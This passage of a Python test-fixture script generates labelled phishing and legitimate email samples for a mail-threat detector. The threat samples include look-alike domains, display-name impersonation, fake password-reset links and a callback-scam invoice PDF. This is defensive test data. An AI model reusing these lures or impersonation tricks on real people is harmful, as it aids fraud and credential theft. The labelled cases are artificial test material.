          headers("Adele Vance <adele@contoso.com>",
                  "Minutes of the standards meeting") +
          plain("The minutes are on the list archive: "
                "https://lists.example.org/archive/2026-11"),
          "clean", "!sender.spoof_own_domain", "!auth.dmarc_fail_monitor",
          "!auth.spf_fail", "!auth.dkim_fail")
    # SharePoint sharing a file in a colleague's name (the organisation's
    # person John Smith), authentic: the service writes for him.
    write("en-332-clean-sharepoint-colleague.eml",
          eop_pass("sharepointonline.com", "40.107.226.34") +
          headers("John Smith <no-reply@sharepointonline.com>",
                  'John Smith shared "Budget 2027" with you') +
          plain("John Smith shared a file with you.\n\nBudget 2027\n"
                "https://contoso.sharepoint.com/:x:/s/finance/EbX2kq"),
          "clean", "!sender.display_person")
    # A correspondent's real mailbox (taken over) asks for payment and
    # sends the replies to a look-alike of its domain.
    write("en-333-replyto-lookalike-correspondent.eml",
          eop_pass("fabrikam.com", "40.107.226.35") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>",
                  "Invoice 4471 - updated payment details",
                  "Reply-To: Bob Kelly <bob.kelly@fabrikarn.com>\n") +
          plain("Hello,\n\nPlease reply to confirm when the payment of "
                "invoice 4471 is scheduled.\n\nBob"),
          "threat", "sender.replyto_lookalike")
    # A Microsoft 365 tenant named after the organisation, a letter
    # changed; and one with a word added.
    write("en-334-lookalike-tenant.eml",
          eop_pass("c0ntoso.onmicrosoft.com", "40.107.226.36") +
          headers("IT Helpdesk <helpdesk@c0ntoso.onmicrosoft.com>",
                  "Mailbox storage") +
          plain("Your mailbox is almost full. Review your storage "
                "settings in the portal."),
          "threat", "sender.lookalike_own")
    # A tenant is named by whoever opens it, and organisations open
    # several (review 31): the name with a word added is no imitation.
    write("en-335-clean-tenant-name-words-added.eml",
          eop_pass("contoso-it.onmicrosoft.com", "40.107.226.37") +
          headers("IT Helpdesk <helpdesk@contoso-it.onmicrosoft.com>",
                  "Mailbox storage") +
          plain("Your mailbox is almost full. Review your storage "
                "settings in the portal."),
          "clean", "!sender.name_in_domain")
    # The organisation's whole domain in front of another one.
    write("en-336-own-domain-in-front.eml",
          headers("IT Helpdesk <helpdesk@contoso.com.mail-secure.net>",
                  "Mailbox storage") +
          plain("Your mailbox is almost full. Review your storage "
                "settings in the portal."),
          "threat", "sender.lookalike_own")
    # An address of the organisation shown in the name, " via Teams"
    # after it: no list wrote it (no List-Id) and no service did.
    write("en-337-display-address-via.eml",
          headers('"john.smith@contoso.com via Teams" '
                  "<notify@teams-notice.example>", "New message") +
          plain("You have a new message in Teams."),
          "threat", "sender.display_address_brand")
    # A list that rewrote its poster's From (Mailman's DMARC mitigation):
    # the address in the name is the poster's.
    write("en-338-clean-list-via-address.eml",
          "List-Id: Widget developers <dev.lists.example.org>\n" +
          headers('"adele@contoso.com via dev" <dev@lists.example.org>',
                  "[dev] Release 2.4 branch") +
          plain("The 2.4 branch is cut; please test your changes."),
          "clean", "!sender.display_address_brand")
    # The address in the name written with full-width brackets, and the
    # domain with a full-width dot (RFC 2047 words, as mail programs
    # send them).
    write("en-339-display-address-fullwidth.eml",
          headers("%s <helpdesk@desk-notice.example>" % ew(
              None, "UTF-8", "IT Helpdesk \uff1chelpdesk@contoso.com\uff1e"
              .encode()), "Password expiry") +
          plain("Your password expires today."),
          "threat", "sender.display_address_brand")
    write("en-340-display-domain-fullwidth-dot.eml",
          headers("%s <helpdesk@desk-notice.example>" % ew(
              None, "UTF-8", "contoso\uff0ecom IT".encode()),
              "Password expiry") +
          plain("Your password expires today."),
          "threat", "sender.display_address_brand")
    # The person's name family name first, as address books show it.
    write("en-341-display-person-last-first.eml",
          headers('"Smith, John" <ceo.office@exec-mail.example>',
                  "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    # ... with a combining accent, an invisible tag character, and as a
    # group's name.
    write("en-342-display-person-combining.eml",
          headers("%s <ceo.office@exec-mail.example>" % ew(
              None, "UTF-8", "Jo\u0301hn Smith".encode()),
              "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    write("en-343-display-person-tag.eml",
          headers("%s <ceo.office@exec-mail.example>" % ew(
              None, "UTF-8", "Jo\U000e0020hn Smith".encode()),
              "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    write("en-344-display-person-group.eml",
          headers("John Smith: <ceo.office@exec-mail.example>;",
                  "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    # Replies to two addresses, the free mail one second.
    write("en-345-replyto-second-freemail.eml",
          headers("Accounts <accounts@northwind-supply.example>",
                  "Outstanding balance",
                  "Reply-To: accounts@northwind-supply.example, "
                  "northwind.accounts@gmail.com\n") +
          plain("Please settle the outstanding balance this week."),
          "potential", "sender.replyto_freemail")
    # The organisation's address as a quoted local part.
    write("en-346-quoted-own-address.eml",
          headers('IT <"it@contoso.com"@desk-notice.example>',
                  "Password expiry") +
          plain("Your password expires today."),
          "potential", "sender.several_from")
    # Authentication-Results with upper-case keys and blanks round "="
    # (RFC 8601 allows both): still read.
    write("en-347-auth-results-case.eml",
          "Authentication-Results: SPF = fail (sender IP is 203.0.113.9) "
          "smtp.mailfrom=contoso.com; DKIM=none (message not signed) "
          "header.d=none;DMARC = fail action=none "
          "header.from=contoso.com;CompAuth=fail reason=000\n" +
          headers("Adele Vance <adele@contoso.com>", "Payroll update") +
          plain("Please confirm your payroll details."),
          "threat", "sender.spoof_own_domain")


def sender_review31_samples():
    """Review 31's false alarms of review 30's checks, and one evasion:
    replies to the sender's own other domains, tenants the organisation
    opened, its domain naming a cloud bucket or a directory, a brand's
    service in a colleague's name with nothing tying it to the
    organisation, variation selectors and flags, a person's name
    reversed inside a firm's."""
    def plain(text):
        return "Content-Type: text/plain; charset=utf-8\n\n" + text + "\n"

    # The organisation and a correspondent asking for replies at their
    # names under other countries' top-level domains: an office there,
    # or a fraud's registration (review 32): a potential threat, no
    # look-alike's threat.
    write("en-356-replyto-own-other-tld.eml",
          eop_pass("contoso.com", "40.107.226.38") +
          headers("Adele Vance <adele@contoso.com>", "Tokyo office hours",
                  "Reply-To: Adele Vance <adele@contoso.co.jp>\n") +
          plain("From next week I answer from the Tokyo office."),
          "potential", "sender.replyto_other_tld",
          "!sender.replyto_lookalike")
    write("en-357-replyto-correspondent-other-tld.eml",
          eop_pass("fabrikam.com", "40.107.226.39") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>", "Price list 2027",
                  "Reply-To: Sales <sales@fabrikam.de>\n") +
          plain("Our German sales office handles your account from "
                "January."),
          "potential", "sender.replyto_other_tld",
          "!sender.replyto_lookalike")
    # Tenants the organisation opened: a digit added; and the tenant's
    # mail routing name (<tenant>.mail.onmicrosoft.com) of a look-alike.
    write("en-358-clean-own-tenant-digit.eml",
          eop_pass("contoso1.onmicrosoft.com", "40.107.226.40") +
          headers("Scanner <scanner@contoso1.onmicrosoft.com>",
                  "Scanned document") +
          plain("Scanned on the third floor copier."),
          "clean", "!sender.lookalike_own")
    write("en-359-lookalike-tenant-routing.eml",
          eop_pass("c0ntoso.mail.onmicrosoft.com", "40.107.226.41") +
          headers("IT Helpdesk <helpdesk@c0ntoso.mail.onmicrosoft.com>",
                  "Mailbox storage") +
          plain("Your mailbox is almost full. Review your storage "
                "settings in the portal."),
          "threat", "sender.lookalike_own")
    # The organisation's domain naming a bucket of a cloud's storage and
    # a directory's host: its own naming, not an imitation.
    write("en-360-clean-own-domain-bucket.eml",
          eop_pass("contoso.com", "40.107.226.42") +
          headers("Adele Vance <adele@contoso.com>", "Brochure") +
          plain("The brochure is at https://contoso.com.s3.amazonaws.com"
                "/brochure/2027.pdf and the form on "
                "http://intranet.contoso.com.local/hr/leave.aspx as "
                "before."),
          "clean", "!url.lookalike_own")
    # A brand's service anyone signs up to, in a colleague's name, with
    # nothing tying it to the organisation; and the same tied to it by
    # the reply address.
    write("en-361-docs-colleague-untied.eml",
          eop_pass("google.com", "209.85.220.41") +
          headers('"John Smith (via Google Docs)" '
                  "<drive-shares-dm-noreply@google.com>",
                  "Q4 payroll adjustments") +
          plain("John Smith shared a document with you\n\n"
                "https://docs.google.com/document/d/1AbCdEfGh/edit"),
          "threat", "sender.display_person")
    write("en-362-clean-docs-colleague-tied.eml",
          eop_pass("google.com", "209.85.220.42") +
          headers('"John Smith (via Google Docs)" '
                  "<drive-shares-dm-noreply@google.com>",
                  "Q4 payroll adjustments",
                  "Reply-To: John Smith <john.smith@contoso.com>\n") +
          plain("John Smith shared a document with you\n\n"
                "https://docs.google.com/document/d/1AbCdEfGh/edit"),
          "clean", "!sender.display_person")
    # An ideograph's variant (U+E0100) and flags (tag characters): how
    # a character is drawn, nothing hidden.
    write("ja-34-clean-ivs-flags.eml",
          eop_pass("fabrikam.com", "40.107.226.43") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>", "Notes") +
          plain("\u8fbb\U000e0100\u69d8\u306ePDF\u3092\u6dfb\u4ed8"
                "\u3044\u305f\u3057\u307e\u3059\u3002\n"
                "\u8fbb\U000e0100\u69d8\u306eExcel\u3082\u3054\u78ba"
                "\u8a8d\u304f\u3060\u3055\u3044\u3002\n"
                "England\U0001f3f4\U000e0067\U000e0062\U000e0065"
                "\U000e006e\U000e0067\U000e007f v Scotland\U0001f3f4"
                "\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074"
                "\U000e007f on Sunday."),
          "clean", "!content.obfuscated_text")
    # The person's name reversed inside a firm's name is no person.
    write("en-363-clean-person-reversed-inside.eml",
          headers('"Smith John Partners LLP" <office@sjp-law.example>',
                  "Engagement letter") +
          plain("Please find our engagement letter for the new year."),
          "clean", "!sender.display_person")


def pdf_page(cs, compress):
    """A one-page PDF of the content stream cs (Flate-compressed or not)."""
    data = zlib.compress(cs) if compress else cs
    return (b"%%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> "
            b"endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >>"
            b" endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox "
            b"[0 0 612 792] /Contents 4 0 R >> endobj\n4 0 obj << "
            b"/Length %d%s >>\nstream\n" % (len(data), b" /Filter "
            b"/FlateDecode" if compress else b"") + data +
            b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%EOF\n")


def review36_samples():
    """Review 36's legitimate mail that was flagged: the organisation's
    own password-expiry notice, a reply quoting the reader's address in
    its header block, an invoicing service's mail replying to a
    correspondent, a brand's own dunning notice naming the billing
    contact, a correspondent's OneDrive share, a brand listed twice."""
    def plain(text):
        return "Content-Type: text/plain; charset=utf-8\n\n" + text + "\n"

    expiry = ("Contoso\n\nYour password will expire in 14 days.\n\n"
              "Update your password now to avoid being locked out.\n%s\n\n"
              "If you have questions, contact the service desk: %s\n")
    # The IT desk's notice, internal (Exchange marks it so), sends the
    # reader to Microsoft's password page and the organisation's service
    # desk: no lure ...
    internal = "X-MS-Exchange-Organization-AuthAs: Internal\n"
    write("en-391-clean-own-password-expiry.eml",
          internal + headers("Contoso IT <noreply@contoso.com>",
                             "Your password expires in 14 days") +
          plain(expiry % ("https://account.activedirectory.windowsazure.com/"
                          "ChangePassword.aspx",
                          "https://servicedesk.contoso.com/sp")),
          "clean", "!content.credential_request")
    # ... the same words with a link elsewhere are one, and so are they
    # with a site named like the organisation (anyone may take
    # contoso.<service>), or from a From of its domain Exchange did not
    # mark internal nor find authentic.
    write("en-392-own-password-expiry-elsewhere.eml",
          internal + headers("Contoso IT <noreply@contoso.com>",
                             "Your password expires in 14 days") +
          plain(expiry % ("https://pw-reset-portal.example/reset",
                          "https://servicedesk.contoso.com/sp")),
          "potential", "content.credential_request")
    write("en-421-own-password-expiry-named-site.eml",
          internal + headers("Contoso IT <noreply@contoso.com>",
                             "Your password expires in 14 days") +
          plain(expiry % ("https://contoso.sso-reset.example/reset",
                          "https://servicedesk.contoso.com/sp")),
          "potential", "content.credential_request")
    write("en-422-own-password-expiry-unauthenticated.eml",
          headers("Contoso IT <noreply@contoso.com>",
                  "Your password expires in 14 days") +
          plain(expiry % ("https://account.activedirectory.windowsazure.com/"
                          "ChangePassword.aspx",
                          "https://servicedesk.contoso.com/sp")),
          "potential", "content.credential_request")
    # Anyone's Jira site on Atlassian's cloud is no home of the
    # organisation's, nor Atlassian's own page.
    write("en-423-own-mail-jira-site.eml",
          internal + headers("Contoso IT <noreply@contoso.com>",
                             "Your password expires in 14 days") +
          plain(expiry % ("https://contoso-itsec.atlassian.net/servicedesk/"
                          "customer/portal/1",
                          "https://servicedesk.contoso.com/sp")),
          "threat", "content.credential_request", "url.free_hosting")
    # The security team's warning quotes the lures it warns of: its
    # own authentic mail about phishing, linking home, is no lure; the
    # same words from outside are.
    aware = ("Colleagues,\n\nWe have seen a wave of phishing emails aimed "
             "at Contoso staff. Typical examples:\n- \"Your account will be "
             "suspended within 24 hours. Click here to verify your "
             "account.\"\n- \"Your password expires today. Sign in to keep "
             "the same password.\"\n- The CEO asking you urgently to buy "
             "gift cards and send the codes.\n- A supplier saying their "
             "bank details have changed and asking you to update them "
             "before the next payment.\n\nIf in doubt, use the Report "
             "button in Outlook. More about phishing: https://contoso."
             "sharepoint.com/sites/Security\n\nInformation Security")
    write("en-431-clean-security-awareness.eml",
          internal + headers("Information Security <infosec@contoso.com>",
                             "Security awareness: phishing") + plain(aware),
          "clean", "!content.gift_card", "!content.credential_urgent")
    write("en-432-awareness-words-from-outside.eml",
          headers("Information Security <infosec@secure-staff-notice.example>",
                  "Security awareness: phishing") + plain(aware.replace(
                      "https://contoso.sharepoint.com/sites/Security",
                      "https://secure-staff-notice.example/verify")),
          "threat", "content.gift_card")
    write("ja-37-clean-security-awareness.eml",
          internal + headers("=?UTF-8?B?5oOF5aCx44K744Kt44Ol44Oq44OG44Kj?= "
                             "<security@contoso.com>",
                             "=?UTF-8?B?5LiN5a+p44Gq44Oh44O844Or44Gr44GU5rOo5oSP"
                             "44GP44Gg44GV44GE?=") +
          plain("社員各位\n\n最近、当社社員を狙った不審なメールが確認されています。"
                "以下のようなメールにご注意ください。\n・「24時間以内に下記リンクから"
                "ログインして本人確認を行ってください」\n・「振込先口座が変更になり"
                "ました」という取引先を装った依頼\n・社長名で「至急、ギフトカードを"
                "購入してコードを送ってください」\n\n詳しくはポータルをご覧ください："
                "https://contoso.sharepoint.com/sites/Security\n\n"
                "情報セキュリティ委員会"),
          "clean", "!content.gift_card", "!content.payment_change")
    # A correspondent's reply quotes the reader's own mail: the
    # reader's address on the From line of the quoted header block
    # greets nobody.
    write("en-393-clean-reply-quote-header.eml",
          eop_pass("fabrikam.com", "40.107.226.37") +
          headers("Emily Chen <emily.chen@fabrikam.com>",
                  "RE: February deliveries") +
          plain("Hi Taro,\n\nPlease find our invoice INV-2026-0311 at "
                "https://portal.fabrikam.com/invoices/0311 - amount due "
                "USD 4,200.00, payment due by 31 March.\n\nBest regards,"
                "\nEmily\n\nFrom: Taro Yamada <taro.yamada@contoso.com>\n"
                "Sent: Monday, March 9, 2026 5:02 PM\nTo: Emily Chen "
                "<emily.chen@fabrikam.com>\nSubject: RE: February "
                "deliveries\n\nThanks, received all pallets.\n"),
          "clean", "!content.address_greeting")
    write("ja-35-clean-reply-quote-header.eml",
          eop_pass("fabrikam.com", "40.107.226.38") +
          headers("=?UTF-8?B?5p2O?= <li@fabrikam.com>",
                  "=?UTF-8?B?UkU6IOiri+axguabuOOBrumAgeS7mA==?=") +
          plain("山田様\n\nいつもお世話になっております。請求書をお送りします。\n"
                "ご請求金額：440,000円\nお支払期限：3月31日\n"
                "https://portal.fabrikam.com/invoices/0312\n\n"
                "-----Original Message-----\n差出人: 山田 太郎 "
                "<taro.yamada@contoso.com>\n送信日時: 2026年3月9日 17:02\n"
                "宛先: 李 <li@fabrikam.com>\n件名: 請求書の送付\n\n"
                "請求書をお送りください。\n"),
          "clean", "!content.address_greeting")
    # A header block that opens the text quotes nothing of the
    # writer's: a lure beginning so still greets the reader by address.
    write("en-430-fake-quoted-header-top.eml",
          headers("Mail Admin <admin@mailbox-notice.example>",
                  "RE: mailbox quota") +
          plain("From: Taro Yamada <taro.yamada@contoso.com>\nSent: Monday, "
                "November 2, 2026 9:00 AM\nTo: Mail Admin\nSubject: mailbox "
                "quota\n\nYour mailbox is full. Open "
                "https://mailbox-notice.example/q to keep your mail.\n"),
          "threat", "content.address_greeting")
    # An invoicing service writes for a correspondent, replies to it.
    write("en-394-clean-invoice-service-replyto-corr.eml",
          headers("Fabrikam via Billflow <invoices@billflow.example>",
                  "Invoice INV-0311 from Fabrikam",
                  "Reply-To: Fabrikam Accounts <ar@fabrikam.com>\n") +
          plain("Fabrikam sent you an invoice.\n\nInvoice INV-0311\n"
                "Amount due: USD 4,200.00\nDue: 31 March 2026\n\n"
                "View invoice: https://app.billflow.example/i/7f3a9c\n"),
          "clean", "!sender.replyto_mismatch")
    # A brand's own dunning notice, authentic and linking home, names
    # the account's billing contact by address.
    write("en-395-clean-brand-dunning.eml",
          eop_pass("am.atlassian.com", "13.110.6.2") +
          headers("Atlassian <noreply@am.atlassian.com>",
                  "Action required: your payment failed") +
          plain("Hi Taro,\n\nWe could not charge the card on file for "
                "your Jira subscription (billing contact "
                "taro.yamada@contoso.com).\n\nUpdate your payment details "
                "within 14 days to avoid suspension of your site:\n"
                "https://admin.atlassian.com/billing/details\n\n"
                "The Atlassian team"),
          "clean", "!content.address_greeting", "!content.credential_urgent")
    # A correspondent's OneDrive, shared by one of its people: its own
    # storage; another company's is anyone's.
    share = ("Emily Chen shared a file with you.\n\nInvoice INV-0311.pdf\n"
             "%s\n\nMicrosoft respects your privacy.")
    write("en-396-clean-corr-onedrive.eml",
          eop_pass("sharepointonline.com", "40.107.226.39") +
          headers("Emily Chen <no-reply@sharepointonline.com>",
                  'Emily Chen shared "Invoice INV-0311" with you',
                  "Reply-To: Emily Chen <emily.chen@fabrikam.com>\n") +
          plain(share % "https://fabrikam-my.sharepoint.com/:b:/g/personal/"
                "emily_chen_fabrikam_com/EaB3x9Qk"),
          "clean", "!url.free_hosting")
    write("en-397-other-onedrive.eml",
          eop_pass("sharepointonline.com", "40.107.226.40") +
          headers("Emily Chen <no-reply@sharepointonline.com>",
                  'Emily Chen shared "Invoice INV-0311" with you',
                  "Reply-To: Emily Chen <emily.chen@fabrikam.com>\n") +
          plain(share % "https://northwind-my.sharepoint.com/:b:/g/personal/"
                "emily_chen_northwind_com/EaB3x9Qk"),
          "clean", "url.free_hosting")
    # A brand's name listed with another brand sharing its domain was
    # taken for a claim to that other one.
    write("en-398-clean-brand-shared-domain.eml",
          headers("Best Buy <BestBuyInfo@emailinfo.bestbuy.com>",
                  "Your order has shipped") +
          plain("Your order BBY01-806512345 has shipped.\nTrack it: "
                "https://www.bestbuy.com/profile/ss/orders"),
          "clean", "!sender.display_brand")


def html_escape(t):
    """t as an attribute's value in double quotes."""
    return (t.replace("&", "&amp;").replace('"', "&quot;")
            .replace("<", "&lt;").replace(">", "&gt;"))

def pdf_doc(content, fonts, extra_objs=(), compress=True):
    """A one-page PDF: content is its drawing, fonts a list of (name,
    font dictionary bytes); extra_objs more objects (bytes) numbered
    after the fonts, streams given as (dict bytes, data)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None, None]
    res = b" ".join(b"/%s %d 0 R" % (nm, 5 + i)
                    for i, (nm, _) in enumerate(fonts))
    objs[2] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
               b"/Resources << /Font << " + res + b" >> >> /Contents 4 0 R >>")
    objs[3] = (b"<< >>", content)
    objs += [f for _, f in fonts] + list(extra_objs)
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        if isinstance(o, tuple):
            d, data = o
            if compress:
                data = zlib.compress(data)
                d = d[:-2] + b" /Filter /FlateDecode >>"
            out += (b"%d 0 obj\n%s\nstream\n" % (i, d[:-2] +
                    b" /Length %d >>" % len(data)) + data +
                    b"\nendstream\nendobj\n")
        else:
            out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
    # The fuzz target's seed: the objects, then the streams' data in
    # the order of their objects (6, 7, ...: the map before the drawing).
    DOCTEXT_SEEDS.append(b"".join(b"%d 0 obj %s endobj\n" % (i, o)
                                  for i, o in enumerate(objs, 1)
                                  if not isinstance(o, tuple)) +
                         b"".join(b"\0\0" + o[1] for o in objs[4:] + objs[3:4]
                                  if isinstance(o, tuple)))
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, x))
    return out


def pdf_simple_text(lines):
    """A drawing of lines in Helvetica (WinAnsi), one Tj a line."""
    esc = lambda l: l.replace("\\", "\\\\").replace("(", "\\(").replace(
        ")", "\\)")
    cs = ("BT /F1 11 Tf 72 740 Td 15 TL\n" + "".join(
        "(%s) Tj T*\n" % esc(l) for l in lines) + "ET\n").encode("cp1252")
    return pdf_doc(cs, [(b"F1", b"<< /Type /Font /Subtype /Type1 "
                         b"/BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")])


def pdf_cid_text(lines):
    """The lines as Word's "Save as PDF" and Chrome write them: a
    subset font of two-byte glyph codes (Identity-H) numbered in the
    order the characters first appear, a ToUnicode map of bfchar and
    bfrange entries, and TJ arrays with kerning (a word's gap -250)."""
    codes = {}
    for ch in "".join(lines):
        if ch != " " and ch not in codes:
            codes[ch] = 3 + len(codes)
    def tj(line):
        parts = []
        for w in line.split(" "):
            parts.append(b"<" + b"".join(b"%04X" % codes[c] for c in w) +
                         b">")
        return b"[" + b" -250 ".join(parts) + b"] TJ"
    cs = b"BT\n/F1 11 Tf\n" + b"".join(
        b"1 0 0 1 72 %d Tm %s\n" % (740 - 15 * i, tj(l))
        for i, l in enumerate(lines)) + b"ET\n"
    items = sorted(codes.items(), key=lambda kv: kv[1])
    half = len(items) // 2
    bfchar = b"".join(b"<%04X> <%04X>\n" % (c, ord(ch))
                      for ch, c in items[:half])
    bfrange = b"".join(b"<%04X> <%04X> <%04X>\n" % (c, c, ord(ch))
                       for ch, c in items[half:])
    cmap = (b"/CIDInit /ProcSet findresource begin\n12 dict begin\n"
            b"begincmap\n/CIDSystemInfo << /Registry (Adobe) /Ordering "
            b"(UCS) /Supplement 0 >> def\n/CMapName /Adobe-Identity-UCS "
            b"def\n/CMapType 2 def\n1 begincodespacerange\n<0000> <FFFF>\n"
            b"endcodespacerange\n%d beginbfchar\n" % half + bfchar +
            b"endbfchar\n%d beginbfrange\n" % (len(items) - half) +
            bfrange + b"endbfrange\nendcmap\nCMapName currentdict "
            b"/CMap defineresource pop\nend\nend\n")
    font = (b"<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Calibri "
            b"/Encoding /Identity-H /DescendantFonts [7 0 R] "
            b"/ToUnicode 6 0 R >>")
    desc = (b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont "
            b"/ABCDEF+Calibri /CIDSystemInfo << /Registry (Adobe) "
            b"/Ordering (Identity) /Supplement 0 >> /DW 500 >>")
    return pdf_doc(cs, [(b"F1", font)], [(b"<< >>", cmap), desc])


def doc_text_samples():
    """Callback phishing written in an attached PDF, the mail saying
    only "see the attached": the PDF's text read (a simple font; a
    subset font of glyph codes with a ToUnicode map, as Word and Chrome
    write), and the invoices and renewals real businesses attach."""
    def att_mail(frm, subject, body, fname, pdfb, extra=""):
        return (headers(frm, subject, extra) +
                'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
                "Content-Type: text/plain; charset=utf-8\n\n" + body +
                "\n--b1\nContent-Type: application/pdf; name=\"%s\"\n"
                "Content-Disposition: attachment; filename=\"%s\"\n"
                "Content-Transfer-Encoding: base64\n\n" % (fname, fname) +
                b64(pdfb) + "\n--b1--\n")
    toad = ["GEEK SQUAD - INVOICE", "Invoice No: GS-88213490",
            "Date: November 20, 2026",
            "Thank you for renewing your Total Protection plan.",
            "Your subscription has been renewed for one year and your",
            "account has been charged $399.99 USD.",
            "If you did not authorize this renewal or wish to cancel",
            "for a full refund, call our billing department within 24 hours",
            "at +1 (808) 213-4471."]
    write("en-455-doc-callback-pdf.eml",
          att_mail("Billing Desk <billing.desk.8812@gmail.com>",
                   "Invoice GS-88213490", "Hello,\n\nPlease find your "
                   "invoice attached.\n\nThanks", "Invoice_GS88213490.pdf",
                   pdf_simple_text(toad)),
          "threat", "attach.doc_callback", "sender.freemail_money")
    # Word's way: glyph codes through a ToUnicode map, words apart by
    # kerning, each line placed by Tm; from a domain of no business.
    write("en-456-doc-callback-cid.eml",
          att_mail("PayPal Billing <service@pp-billing-center.example>",
                   "Your order receipt", "Your receipt is attached.",
                   "Receipt.pdf", pdf_cid_text(toad)),
          "threat", "attach.doc_callback", "sender.display_brand")
    # A shop's own receipt: an order ID, the total, customer care and a
    # number to call, no charge to dispute.
    receipt = ["Northwind Office Supply", "Order ID: 448120",
               "Total amount: $45.20",
               "Refunds are accepted within 30 days.",
               "Questions? Call customer care on +1 (425) 555-0142."]
    write("en-457-clean-receipt-pdf.eml",
          att_mail("Northwind Orders <orders@northwind.example>",
                   "Your order 448120", "Thank you for your order. The "
                   "receipt is attached.", "Receipt-448120.pdf",
                   pdf_cid_text(receipt)),
          "clean", "!attach.doc_callback")
    # A correspondent's renewal invoice says what the scam says: its
    # business with the organisation.
    renewal = ["Fabrikam Support Services", "Invoice No: 2026-1187",
               "Your annual support subscription has been renewed.",
               "The amount will be charged to your account on file.",
               "If you wish to cancel, call our billing department on "
               "+1 (425) 555-0199."]
    write("en-458-clean-corr-renewal-pdf.eml",
          att_mail("Fabrikam Billing <billing@fabrikam.com>",
                   "Invoice 2026-1187", "Please find our invoice "
                   "attached.", "Invoice-2026-1187.pdf",
                   pdf_simple_text(renewal)),
          "clean", "!attach.doc_callback")
    # Review 43: the callback scam's words are a business's own too. A
    # correspondent's invoice with its billing department's number ...
    write("en-459-clean-corr-invoice-call.eml",
          headers("Accounts Receivable <ar@fabrikam.com>",
                  "Invoice 2026-1184 from Fabrikam") +
          "Content-Type: text/plain; charset=utf-8\n\nDear John,\n\nPlease "
          "find attached invoice 2026-1184 for the November maintenance "
          "services.\nTotal amount: $4,280.00, due within 30 days.\n\nIf "
          "you have any questions about this invoice, call our billing "
          "department at +1 (425) 555-0100.\n", "clean", "!content.callback")
    # ... a hotel's booking mail, its link to its booking engine ...
    write("en-460-clean-hotel-booking-call.eml",
          headers("Harbor View Inn <reservations@harborviewinn.example>",
                  "Booking confirmation #HV-20931") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Thank "
          "you for your reservation. Your booking is confirmed.</p><p>Total "
          "amount: $412.00 (will be charged at check-in)</p><p>Cancellation "
          "policy: free cancellation until 48 hours before arrival. If you "
          "wish to cancel, call us at +1 (207) 555-0139 or use the link "
          "below.</p><p><a href='https://secure.reservit.example/reserhotel."
          "php?hotelid=22871&amp;action=cancel'>Manage booking</a></p>"
          "</body></html>\n", "clean", "!content.callback")
    # ... and an ISP's payment notice from a name under its mail domain
    # (nobody has a mailbox at alerts.comcast.net), linking to its
    # brand's other site.
    write("en-461-clean-isp-autopay-call.eml",
          headers("Comcast Xfinity <online.communications@alerts.comcast."
                  "net>", "Your Xfinity bill has been paid") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Hi "
          "John,</p><p>Your automatic payment of $129.43 was processed. The "
          "amount has been charged to your bank account ending 0098.</p><p>"
          "If you did not authorize this payment, call us at 1-800-934-6489."
          "</p><p><a href='https://customer.xfinity.com/#/billing'>View "
          "bill</a></p></body></html>\n", "clean", "!content.callback")
    # Review 43: a hosting service's own notice of a site on it, found
    # authentic.
    def auth(dom, dmarc):
        return ("Authentication-Results: spf=pass smtp.mailfrom=%s; dkim=pass "
                "header.d=%s; dmarc=%s action=none header.from=%s; "
                "compauth=%s reason=100\n" % (dom, dom, dmarc, dom,
                                              dmarc))
    write("en-462-clean-hosting-service-notice.eml",
          auth("netlify.com", "pass") +
          headers("Netlify <team@netlify.com>",
                  "[Netlify] Deploy succeeded for contoso-docs") +
          "Content-Type: text/plain; charset=utf-8\n\nThe deploy of "
          "contoso-docs succeeded.\nhttps://contoso-docs.netlify.app\n",
          "clean", "!url.name_in_domain", "!url.free_hosting")


def review42_samples():
    """Review 42's Japanese companies whose names hold a brand's: a
    brand's name inside a longer one is the longer one's (三井住友信託銀行
    is not 三井住友), a katakana name does not begin inside a katakana
    word (ライオン holds no イオン), a brand's own subdomain is its own
    (ゆうちょ's jp-bank.japanpost.jp under Japan Post's japanpost.jp), and
    the group companies of the brands named (楽天証券, PayPayカード)."""
    def ja_mail(name, addr, subject, body, link):
        auth = auth_pass(addr.split("@")[1])
        from email.header import Header
        return (auth + headers(Header(name, "utf-8").encode() +
                               " <%s>" % addr,
                               Header(subject, "utf-8").encode()) +
                "Content-Type: text/plain; charset=utf-8\n"
                "Content-Transfer-Encoding: 8bit\n\n" + body + "\n" + link +
                "\n")
    login = ("いつも%sをご利用いただきありがとうございます。\n\n"
             "お客様のアカウントへのログインがありました。\n"
             "ログイン日時: 2026年11月2日 9:12\n\n"
             "お心当たりのない場合は、下記よりパスワードを変更してください。")
    cases = [
        ("ja-38-clean-trust-bank-login.eml", "三井住友信託銀行", "info@smtb.jp",
         "【三井住友信託銀行】ログインのお知らせ",
         "https://direct.smtb.jp/login"),
        ("ja-39-clean-yucho-subdomain.eml", "ゆうちょ銀行",
